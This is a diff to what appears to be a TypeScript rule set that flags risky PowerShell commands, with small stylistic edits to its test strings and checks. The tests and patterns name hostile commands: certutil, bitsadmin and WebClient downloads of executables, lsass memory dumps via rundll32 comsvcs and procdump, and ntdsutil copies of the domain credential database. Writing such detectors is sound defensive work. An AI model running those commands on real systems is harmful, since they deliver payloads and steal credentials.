@@ -20,7 +20,7 @@ const has = (cmd: PsCommand, ...params: string[]): boolean =>
 /** Positional values and the values of the given parameters (`-Path x`, `-Path:x`). */
 function values(cmd: PsCommand, named: readonly string[], valueParams: readonly string[] = []): string[] {
   const out: string[] = []
-  const args = cmd.args
+  const {args} = cmd
   for (let i = 0; i < args.length; i++) {
     const a = args[i] as PsArg
     if (a.param === undefined) {
@@ -145,7 +145,7 @@ const removeItem = powershellRule({
       String.raw`Remove-Item .\build -Recurse -Force`,
       'Remove-Item node_modules -Recurse -Force',
       'Get-Help Remove-Item',
-      'Write-Output "Remove-Item C:\\ -Recurse"',
+      String.raw`Write-Output "Remove-Item C:\ -Recurse"`,
       "Select-String -Pattern 'Remove-Item -Recurse' -Path x.ps1",
       String.raw`Remove-Item $env:TEMP\build -Recurse`,
       'rm -rf ./build',
@@ -309,7 +309,7 @@ const download = powershellRule({
     match: [
       String.raw`Invoke-WebRequest https://x.io/a.exe -OutFile C:\Windows\a.exe`,
       'certutil -urlcache -split -f http://x/y y',
-      'bitsadmin /transfer j http://x/y C:\\y',
+      String.raw`bitsadmin /transfer j http://x/y C:\y`,
       String.raw`(New-Object Net.WebClient).DownloadFile("http://x", "C:\Windows\x.exe")`,
     ],
     not_match: [
@@ -429,7 +429,7 @@ const systemChanges = powershellRule({
       'Get-NetFirewallProfile',
       'net user',
       'Get-LocalUser',
-      'Set-ItemProperty -Path .\\a.txt -Name IsReadOnly -Value $true',
+      String.raw`Set-ItemProperty -Path .\a.txt -Name IsReadOnly -Value $true`,
     ],
   },
   check(cmd) {
@@ -558,7 +558,7 @@ const credentials = powershellRule({
       return 'cmdkey /list: lists stored credentials'
     if (cmd.name === 'rundll32' && /comsvcs/i.test(cmd.text) && /minidump/i.test(cmd.text))
       return 'rundll32 comsvcs MiniDump: dumps process memory (lsass credentials)'
-    if (/^procdump/.test(cmd.name) && /lsass/i.test(cmd.text)) return 'procdump of lsass: dumps credentials'
+    if (cmd.name.startsWith('procdump') && /lsass/i.test(cmd.text)) return 'procdump of lsass: dumps credentials'
     if (/^(?:ntdsutil|esentutl)$/.test(cmd.name) && /ntds|ifm/i.test(cmd.text))
       return `${cmd.written}: copies the domain credential database`
     if (/^(?:get-childitem|get-item)$/.test(cmd.name) && cmd.args.some((a) => /^env:\\?$/i.test(a.text)))
